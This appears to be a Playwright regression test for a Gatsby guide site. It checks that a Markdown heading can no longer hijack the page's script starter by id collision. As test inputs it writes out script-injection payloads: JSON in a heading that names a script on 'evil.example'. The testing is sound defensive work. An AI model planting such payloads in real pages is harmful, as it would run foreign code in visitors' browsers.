import type { Page } from "@playwright/test";
import { test, expect, gotoHydrated } from "./fixtures";
import { renderMarkdown } from "./support/render-markdown";
import fs from "node:fs";
import path from "node:path";
import matter from "gray-matter";
import { OWN_SCRIPT } from "../plugins/gatsby-plugin-script-starter/start-app";
import { templateIds } from "../src/utils/page-ids";
import { localizePath, locales } from "../model/locales";

// A guide's heading cannot start a script or stop the page's own (issue 60). The starter once found
// its data by an id, and a heading gets its id from its words, or, before the fix, from a link's
// title: `## [...](/ "page-start")` took that id, wrote JSON naming another host's script before
// the page's own data, and the script the starter added ran under 'strict-dynamic'. Each heading is
// rendered as the build renders a guide's Markdown and put first in a built guide's body; the page
// must start only the build's own scripts and hydrate. The content check accepts both headings
// (scripts/content/rules/__tests__/markdown-bodies.test.ts); no guide in content/ carries them.
const guide = "/guides/bali";

/** The built guide, served with `bodyStart` before the first heading of its body. */
async function serveWithBodyStart(page: Page, bodyStart: string) {
  await page.route(new RegExp(`${guide}$`), async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    // The body's first h2 comes after the guide's own sections (when to go, getting there).
    const facts = html.indexOf('id="guide-getting-there"');
    const first = html.indexOf("<h2 id=", html.indexOf("</section>", facts));
    expect(first, "the guide's body has a heading").toBeGreaterThan(facts);
    await route.fulfill({ response, body: html.slice(0, first) + bodyStart + html.slice(first) });
  });
}

/** Every script the page asks for, by address. */
function scriptRequests(page: Page) {
  const seen: string[] = [];
  page.on("request", (request) => {
    if (request.resourceType() === "script") seen.push(request.url());
  });
  return seen;
}

const cases = [
  ["a link whose title is the starter's old id", '## [{"pagePath":"/x","scripts":["//evil.example/x.js"]}](/ "page-start")'],
  ["the words of the starter's old id", "## Page start"],
] as const;

for (const [what, heading] of cases) {
  test(`a guide whose body has a heading of ${what} starts only the build's own scripts and hydrates`, async ({ page, baseURL }) => {
    const rendered = renderMarkdown(`${heading}\n\nText.\n`);
    expect(rendered).toMatch(/^<h2 id="[^"]+">/);
    await serveWithBodyStart(page, rendered);
    const scripts = scriptRequests(page);
    await gotoHydrated(page, guide);
    await expect(page.getByRole("heading", { level: 2, name: heading.includes("Page start") ? "Page start" : /scripts/ })).toBeVisible();
    const foreign = scripts.filter((url) => new URL(url).origin !== new URL(baseURL!).origin || !OWN_SCRIPT.test(new URL(url).pathname));
    expect(foreign).toEqual([]);
    expect(scripts.length).toBeGreaterThanOrEqual(3);
  });
}

// Before the fix the first heading above rendered as this: the id the starter looked up, and JSON
// for its words. The starter now reads only the element written right before it.
test("a heading that carries the starter's old id and JSON naming another host's script is never read", async ({ page, baseURL }) => {
  await serveWithBodyStart(page, '<h2 id="page-start">{"pagePath":"/x","scripts":["//evil.example/x.js"]}</h2>');
  const scripts = scriptRequests(page);
  await gotoHydrated(page, guide);
  expect(scripts.filter((url) => new URL(url).origin !== new URL(baseURL!).origin)).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { pagePath?: string }).pagePath)).toBe(guide);
});

// The content check keeps a guide's headings off the ids the page itself writes (templateIds). A
// component that writes a new id on a guide's page without adding it there (the footer's
// "site-sections" once) would let "## Site sections" give two elements one id: every id of the
// built page is a heading of its body, React's own (":R…:") or one of the list.
for (const locale of locales) {
  test(`${locale}: every id on a guide's page outside its body is one the content check keeps from headings`, async ({ page }) => {
    const file = path.join(__dirname, "..", "content", ...(locale === "en" ? [] : [locale]), "guides", "bali.md");
    const bodyIds = [...renderMarkdown(matter(fs.readFileSync(file, "utf8")).content).matchAll(/ id="([^"]+)"/g)].map((m) => m[1]);
    expect(bodyIds.length).toBeGreaterThan(2);
    await gotoHydrated(page, localizePath(guide, locale));
    const ids = await page.evaluate(() => [...document.querySelectorAll("[id]")].map((e) => e.id));
    expect(ids).toEqual(expect.arrayContaining(bodyIds));
    const others = ids.filter((id) => !bodyIds.includes(id) && !/^:.+:$/.test(id));
    expect(others.filter((id) => !templateIds.includes(id))).toEqual([]);
    expect(others).toEqual(expect.arrayContaining(["main", "page-title", "site-sections"]));
  });
}
